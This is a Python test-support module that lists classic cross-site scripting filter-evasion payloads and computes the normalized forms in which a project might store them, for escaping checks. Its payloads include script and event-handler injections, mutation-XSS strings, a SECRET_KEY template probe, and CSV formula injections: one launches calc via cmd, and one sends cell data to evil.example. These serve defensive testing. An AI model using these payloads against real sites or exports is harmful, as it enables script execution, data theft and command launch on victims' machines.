"""Well-known cross-site scripting payloads, and the forms the project may store them in.

Each payload that could run calls `alert(1)` (or `prompt`, `confirm`) or sets `window.__xss`,
so that a browser test sees it run. They are the classics of the XSS filter-evasion lists:
script tags, event handlers, `javascript:` and `data:` URLs, attribute breakouts, closing
tags of raw-text elements, comment and CDATA breakouts, encoded variants, SVG and MathML
namespace tricks, template injection, JSON breakouts and spreadsheet formulas.

The project folds white space, unescapes character references and normalizes Unicode on
the way in, so a payload may be stored, and shown, in another form than it was typed:
`stored_forms` lists them, and the checks look for every one.
"""

import html
import unicodedata
from dataclasses import dataclass
from urllib.parse import unquote

from sources.text import normalize_line, normalize_text, unescape_entities


@dataclass(frozen=True)
class Payload:
    """One attack string, with a short name that test ids and failures show."""

    name: str
    text: str

    def __str__(self):
        return self.name


PAYLOADS = [
    # Script elements.
    Payload("script-tag", "<script>window.__xss=1;alert(1)</script>"),
    Payload("script-mixed-case", "<ScRiPt>alert(2)</sCrIpT>"),
    Payload("script-nested", "<scr<script>ipt>alert(3)</scr</script>ipt>"),
    Payload("script-src-data", '<script src="data:text/javascript,alert(4)"></script>'),
    Payload("script-unclosed", "<script>alert(5)//"),
    # Event handlers.
    Payload("img-onerror", "<img src=x onerror=alert(6)>"),
    Payload("img-onerror-quoted", '<img src="x" onerror="window.__xss=7">'),
    Payload("img-slashes", "<img/src=x/onerror=alert(8)>"),
    Payload("img-backticks", "<img src=`x` onerror=alert(9)>"),
    Payload("img-unclosed", "<img src=x onerror=alert(10)//"),
    Payload("svg-onload", "<svg onload=alert(11)>"),
    Payload("svg-slash-onload", "<svg/onload=window.__xss=12>"),
    Payload("svg-script", "<svg><script>alert(13)</script></svg>"),
    Payload("svg-animate", "<svg><animate onbegin=alert(14) attributeName=x dur=1s>"),
    Payload("svg-set", "<svg><set onbegin=alert(15) attributename=x to=1>"),
    Payload("body-onload", "<body onload=alert(16)>"),
    Payload("details-ontoggle", "<details open ontoggle=alert(17)>"),
    Payload("input-autofocus", "<input autofocus onfocus=alert(18)>"),
    Payload("select-autofocus", "<select autofocus onfocus=confirm(19)></select>"),
    Payload("textarea-autofocus", "<textarea autofocus onfocus=prompt(20)></textarea>"),
    Payload("video-source", "<video><source onerror=alert(21)></video>"),
    Payload("audio-onerror", "<audio src=x onerror=alert(22)>"),
    Payload("marquee-onstart", "<marquee onstart=alert(23)>news</marquee>"),
    Payload("div-onpointer", '<div onpointerenter="alert(24)">hover</div>'),
    # javascript: and data: URLs.
    Payload("a-javascript", '<a href="javascript:alert(25)">click</a>'),
    Payload("a-javascript-entities", '<a href="&#106;avascript:alert(26)">click</a>'),
    Payload(
        "a-javascript-hex-entities",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(27)">x</a>',
    ),
    Payload("a-javascript-tab", '<a href="java\tscript:alert(28)">click</a>'),
    Payload(
        "a-data-url",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyOSk8L3NjcmlwdD4=">click</a>',
    ),
    Payload("bare-javascript-url", "javascript:alert(30)"),
    Payload("bare-javascript-mixed-case", "JaVaScRiPt:window.__xss=31"),
    Payload("bare-javascript-percent", "javascript:%61lert(32)"),
    Payload("bare-data-url", "data:text/html,<script>alert(33)</script>"),
    Payload("bare-vbscript-url", "vbscript:msgbox(34)"),
    Payload("iframe-javascript", '<iframe src="javascript:alert(35)"></iframe>'),
    Payload("iframe-srcdoc", '<iframe srcdoc="<script>parent.alert(36)</script>"></iframe>'),
    Payload("form-action", '<form action="javascript:alert(37)"><button>go</button></form>'),
    Payload("button-formaction", '<form><button formaction="javascript:alert(38)">go</button>'),
    Payload("object-data", '<object data="javascript:alert(39)"></object>'),
    Payload("embed-src", '<embed src="javascript:alert(40)">'),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(41)">'),
    Payload("base-href", '<base href="javascript:alert(42)//">'),
    Payload("style-url", '<div style="background:url(javascript:alert(43))">x</div>'),
    # Attribute breakouts.
    Payload("attribute-double-quote", '" onmouseover="alert(44)" autofocus onfocus="alert(44)'),
    Payload("attribute-double-quote-tag", '"><script>alert(45)</script>'),
    Payload("attribute-single-quote", "' onfocus='alert(46)' autofocus x='"),
    Payload("attribute-single-quote-tag", "'><img src=x onerror=alert(47)>"),
    Payload("attribute-unquoted", "x onmouseover=alert(48) autofocus onfocus=alert(48)"),
    # Closing the raw-text and escapable elements a value may be shown in.
    Payload("close-textarea", "</textarea><script>alert(49)</script>"),
    Payload("close-title", "</title><script>alert(50)</script>"),
    Payload("close-script", "</script><script>alert(51)</script>"),
    Payload("close-style", "</style><script>alert(52)</script>"),
    Payload("close-noscript", "</noscript><img src=x onerror=alert(53)>"),
    Payload("close-template", "</template><img src=x onerror=alert(54)>"),
    Payload("close-select", "</select><img src=x onerror=alert(55)>"),
    # Comments and CDATA.
    Payload("comment-breakout", "--><script>alert(56)</script><!--"),
    Payload("comment-conditional", "<!--[if gte IE 4]><script>alert(57)</script><![endif]-->"),
    Payload("cdata-breakout", "<![CDATA[<script>alert(58)</script>]]>"),
    Payload("cdata-end", "]]><script>alert(59)</script>"),
    # Encoded variants.
    Payload("entities-named", "&lt;script&gt;alert(60)&lt;/script&gt;"),
    Payload("entities-decimal", "&#60;img src=x onerror=alert(61)&#62;"),
    Payload("entities-double", "&amp;lt;svg onload=alert(62)&amp;gt;"),
    Payload("percent-encoded", "%3Cscript%3Ealert(63)%3C%2Fscript%3E"),
    Payload("percent-double-encoded", "%253Csvg%2520onload%253Dalert(64)%253E"),
    Payload("utf7", "+ADw-script+AD4-alert(65)+ADw-/script+AD4-"),
    Payload("fullwidth-brackets", "＜script＞alert(66)＜/script＞"),
    Payload("unicode-escapes", "\\u003cscript\\u003ealert(67)\\u003c/script\\u003e"),
    Payload("line-separators", "\u2028\u2029</script><script>alert(68)</script>"),
    Payload("rtl-override", "\u202e<img src=x onerror=alert(69)>"),
    # SVG and MathML namespace tricks.
    Payload(
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(70)"><text x="20" y="20">x</text></a></svg>',
    ),
    Payload(
        "svg-foreignobject",
        '<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert(71)&lt;/script&gt;">'
        "</iframe></foreignObject></svg>",
    ),
    Payload(
        "mathml-style-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(72)>"
    ),
    Payload("mathml-href", '<math href="javascript:alert(73)">click</math>'),
    Payload("svg-style-mutation", '<svg></p><style><a id="</style><img src=1 onerror=alert(74)>">'),
    Payload(
        "noscript-title-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(75)>">'
    ),
    # Template injection.
    Payload("django-template", "{{7*7}} {% debug %} {{ settings.SECRET_KEY }}"),
    Payload("template-literal", "${alert(77)}"),
    Payload("angular-expression", "{{constructor.constructor('alert(78)')()}}"),
    # JSON and JSON-LD breakouts.
    Payload("json-ld-breakout", '"}</script><script>window.__xss=79</script>'),
    Payload("json-quote-breakout", '"},"@type":"Evil","x":{"y":"'),
    Payload("json-html-comment", "<!--<script>alert(81)</script>"),
    # Spreadsheet formulas (for the CSV exports).
    Payload("formula-equals", '=HYPERLINK("https://evil.example/?"&A1,"open")'),
    Payload("formula-plus", "+cmd|' /C calc'!A0"),
    Payload("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    Payload("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("formula-tab", "\t=1+1"),
    Payload("formula-carriage-return", "\r=1+1"),
    Payload("formula-fullwidth", "＝1+1"),
    # Mixed.
    Payload(
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(90) )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(90)//>\\x3e",
    ),
    Payload("chinese-name-with-script", "徐琰<script>alert(91)</script>"),
]

BY_NAME = {payload.name: payload for payload in PAYLOADS}
assert len(BY_NAME) == len(PAYLOADS), "payload names must be unique"

# Characters whose raw appearance in HTML can start markup or leave an attribute.
MARKUP = "<"
QUOTES = "\"'"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def folded(text):
    """White space folded to single spaces and trimmed, as the services store names."""
    return " ".join(text.split())


def unescaped(text):
    """Character references replaced until none is left, as article texts are stored."""
    while True:
        once = html.unescape(text)
        if once == text:
            return text
        text = once


def stored_forms(text):
    """Every form the project may store or show `text` in (folded, unescaped, NFKC ...)."""
    forms = {text}
    for _ in range(2):
        for form in list(forms):
            forms.update(
                {
                    folded(form),
                    "".join(form.split()),
                    unescaped(form),
                    unescape_entities(form),
                    normalize_line(form),
                    normalize_text(form),
                    unquote(form),
                    unicodedata.normalize("NFKC", form),
                    unicodedata.normalize("NFKC", form).casefold(),
                }
            )
    return {form for form in forms if form}


def dangerous_forms(text):
    """The stored forms whose raw appearance in a page is a hole: markup or quotes."""
    return sorted(
        form for form in stored_forms(text) if any(char in form for char in MARKUP + QUOTES)
    )
